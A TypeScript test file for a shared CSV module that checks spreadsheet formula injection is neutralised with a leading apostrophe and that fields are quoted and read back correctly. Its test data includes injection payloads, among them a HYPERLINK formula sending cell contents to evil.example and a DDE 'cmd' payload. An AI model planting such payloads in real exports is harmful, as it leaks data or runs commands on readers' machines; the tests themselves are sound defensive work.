import { test } from '@japa/runner'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { csvCell, csvDocument, csvField, csvTextCell, neutraliseFormula } from '#shared/csv'

const hostile = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  '=1+1',
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '+31 6 1234',
  '\tTab',
  '\rReturn',
]

test.group('Shared CSV (server reports and admin lists)', () => {
  test('text a spreadsheet would run as a formula gets a leading apostrophe', ({ assert }) => {
    for (const text of hostile) assert.equal(neutraliseFormula(text), `'${text}`)
    for (const text of ['Acme', 'plain - text', 'a=b', ' =1', '', "'=1"]) {
      assert.equal(neutraliseFormula(text), text)
    }
  })

  test('quotes fields with commas, quotes and line breaks', ({ assert }) => {
    assert.equal(csvField('Smith, Jones'), '"Smith, Jones"')
    assert.equal(csvField('Call "Bob"'), '"Call ""Bob"""')
    assert.equal(csvField('one\r\ntwo\nthree'), '"one\r\ntwo\nthree"')
    assert.equal(csvField('plain'), 'plain')
  })

  test('a text cell is neutralised and quoted, whatever the text', ({ assert }) => {
    for (const text of hostile) assert.equal(csvTextCell(text), csvField(`'${text}`))
    assert.equal(csvTextCell('Acme'), 'Acme')
    assert.equal(csvTextCell('a, b'), '"a, b"')
    const risky = fc.string({
      unit: fc.constantFrom('a', ' ', ',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", 'é'),
    })
    fc.assert(
      fc.property(fc.oneof(risky, fc.string()), (text) => {
        const [[cell]] = parse(`${csvTextCell(text)}\r\n`, { relax_quotes: false }) as string[][]
        return (
          csvTextCell(text) === csvField(neutraliseFormula(text)) &&
          cell === neutraliseFormula(text)
        )
      })
    )
  })

  test('text is neutralised as the server does, numbers are written as they are', ({ assert }) => {
    // The server neutralises its text columns, "-2" included, and writes its numbers raw.
    assert.equal(csvCell('-2'), "'-2")
    assert.equal(csvCell(-2), '-2')
    assert.equal(csvCell(-1.5), '-1.5')
    assert.equal(csvCell(0), '0')
    assert.equal(csvCell(null), '')
    assert.equal(csvCell(undefined), '')
    assert.equal(csvCell('=1+1, "x"'), `"'=1+1, ""x"""`)
  })

  test('a document starts with the byte-order mark and reads back whole', ({ assert }) => {
    const rows = [['Name', 'Hours'], ...hostile.map((text) => [text, -2]), ['a\r\nb "c"', 3]]
    const csv = csvDocument(rows)
    assert.isTrue(csv.startsWith('\uFEFFName,Hours\r\n'))
    assert.isTrue(csv.endsWith('\r\n'))
    const [header, ...lines] = parse(csv, { bom: true }) as string[][]
    assert.deepEqual(header, ['Name', 'Hours'])
    assert.deepEqual(
      lines.map(([text]) => text),
      [...hostile.map((text) => `'${text}`), 'a\r\nb "c"']
    )
    assert.deepEqual(
      lines.map(([, hours]) => hours),
      [...hostile.map(() => '-2'), '3']
    )
  })
})
